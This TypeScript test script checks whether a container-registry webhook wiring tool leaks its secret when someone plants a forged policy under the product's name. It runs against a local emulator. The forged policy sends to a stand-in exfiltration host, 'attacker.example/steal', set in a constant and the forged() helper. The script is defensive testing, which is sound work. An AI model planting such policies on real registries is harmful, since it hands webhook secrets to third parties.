import { execFile, spawn } from "node:child_process";
import { join } from "node:path";
import { EMULATOR_KEY, EMULATOR_PROJECT_ID } from "../src/emulator/hss-emulator";
import { type SwrEmulator, startSwrEmulator } from "../src/emulator/swr-emulator";
import { desiredPolicy, POLICY_NAME } from "../src/wiring/policy";

/**
 * `npm run forged-policy-check`: someone allowed to manage one namespace's triggers writes a
 * policy with this product's name and mark, sending to their own address; then the operator wires
 * as the docs say. For each list order (the forged policy listed before or after the product's
 * own), the real commands run against the SWR Enterprise stand-in: `npm run wire` without `--url`,
 * `npm run wire` with `SWR_WIRE_URL`, and the function's scheduled wiring (`npm start` with
 * `SWR_WIRE_INSTANCES`), without and with `SWR_WIRE_URL`. Prints, for each, the exit status and
 * every address SWR was given the webhook secret for: only the configured one may appear.
 * FORGED_CHECK_ROOT runs another checkout's commands (to measure an older build).
 */

const ROOT = process.env.FORGED_CHECK_ROOT ?? join(__dirname, "..");
const TSX = join(__dirname, "..", "node_modules", ".bin", "tsx");
const INSTANCE = "ee-check";
const CONFIGURED = "https://4f2a.apic.cn-north-4.huaweicloudapis.com/swr-scan-on-push";
const ATTACKER = "https://attacker.example/steal";
const SECRET = "forged-check-secret-0123456789";

/** A policy with this product's name and mark, sending to the attacker with a header of theirs. */
function forged(name = POLICY_NAME) {
  const body = desiredPolicy(
    { instanceId: INSTANCE, url: ATTACKER, header: "x", secret: "their-own-header" },
    "0".repeat(24),
  );
  return { ...body, name, targets: [{ ...body.targets[0], address: ATTACKER }] };
}

function environment(swr: SwrEmulator, extra: Record<string, string>): NodeJS.ProcessEnv {
  return {
    PATH: process.env.PATH,
    SWR_ENDPOINT: swr.url,
    WEBHOOK_SECRET: SECRET,
    ...extra,
  };
}

/** `npm run wire -- --instance-id <id>` as the operator types it. */
function wire(swr: SwrEmulator, extra: Record<string, string>): Promise<string> {
  const env = environment(swr, {
    HSS_REGION: "cn-north-4",
    HSS_PROJECT_ID: swr.projectId,
    CLOUD_SDK_AK: EMULATOR_KEY.ak,
    CLOUD_SDK_SK: EMULATOR_KEY.sk,
    ...extra,
  });
  return new Promise((resolve) => {
    execFile(TSX, ["src/cli/wire.ts", "--instance-id", INSTANCE], { cwd: ROOT, env }, (error) =>
      resolve(`exit ${error ? error.code : 0}`),
    );
  });
}

/** The function (`npm start`), until its scheduled wiring has run once. */
function scheduled(swr: SwrEmulator, extra: Record<string, string>): Promise<string> {
  const child = spawn(TSX, ["src/runners/server.ts"], {
    cwd: ROOT,
    env: environment(swr, {
      PORT: "0",
      FLUSH_INTERVAL_SECONDS: "1",
      SWR_WIRE_INSTANCES: INSTANCE,
      SWR_WIRE_INTERVAL_MINUTES: "0",
      ...extra,
    }),
    stdio: ["ignore", "ignore", "pipe"],
  });
  let log = "";
  return new Promise((resolve) => {
    const timer = setTimeout(() => finish("no swr_wired within 30 s"), 30_000);
    const finish = (said: string) => {
      clearTimeout(timer);
      child.kill();
      resolve(said);
    };
    child.stderr?.on("data", (chunk: Buffer) => {
      log += chunk.toString("utf8");
      const line = log.split("\n").find((candidate) => candidate.includes('"swr_wired"'));
      if (!line) return;
      const wired = JSON.parse(line) as { errors: string[]; counts: object };
      const warned = (log.match(/"swr_policy_elsewhere"/g) ?? []).length;
      finish(
        `swr_wired ${JSON.stringify(wired.counts)}${wired.errors.length > 0 ? ` errors: ${wired.errors[0]?.slice(0, 40)}…` : ""}; ${warned} swr_policy_elsewhere`,
      );
    });
  });
}

async function scenario(order: "before" | "after", what: string) {
  const swr = await startSwrEmulator({ projectId: EMULATOR_PROJECT_ID });
  for (const namespace of ["team-a", "team-b", "platform"]) swr.addNamespace(INSTANCE, namespace);
  if (order === "before") swr.addPolicy(INSTANCE, "team-b", forged());
  else {
    // The product's own policies first (as a wiring made them), then the forgery.
    await wire(swr, { SWR_WIRE_URL: CONFIGURED });
    swr.addPolicy(INSTANCE, "team-b", forged(`${POLICY_NAME}-b`));
  }
  const first = swr.targetsWritten.length;
  const result =
    what === "wire"
      ? await wire(swr, {})
      : what === "wire, SWR_WIRE_URL"
        ? await wire(swr, { SWR_WIRE_URL: CONFIGURED })
        : what === "scheduled"
          ? await scheduled(swr, {})
          : await scheduled(swr, { SWR_WIRE_URL: CONFIGURED });
  const given = [
    ...new Set(
      swr.targetsWritten
        .slice(first)
        .filter((target) => target.auth_header?.includes(SECRET))
        .map((target) => new URL(target.address).host),
    ),
  ];
  const attacker = swr.policies(INSTANCE).some((policy) => policy.targets[0]?.address === ATTACKER);
  await swr.close();
  return `| forged policy listed ${order} | ${what} | ${result} | ${given.join(", ") || "none"} | ${attacker ? "still there" : "gone"} |`;
}

async function main() {
  console.log(
    `forged-policy-check, ${new Date().toISOString().slice(0, 10)}, Node.js ${process.version}`,
  );
  console.log("| seeded | run | outcome | hosts given the secret | forged policy |");
  console.log("|---|---|---|---|---|");
  for (const order of ["before", "after"] as const) {
    for (const what of ["wire", "wire, SWR_WIRE_URL", "scheduled", "scheduled, SWR_WIRE_URL"]) {
      console.log(await scenario(order, what));
    }
  }
}

main().catch((error: Error) => {
  console.error(`forged-policy-check failed: ${error.message}`);
  process.exitCode = 1;
});
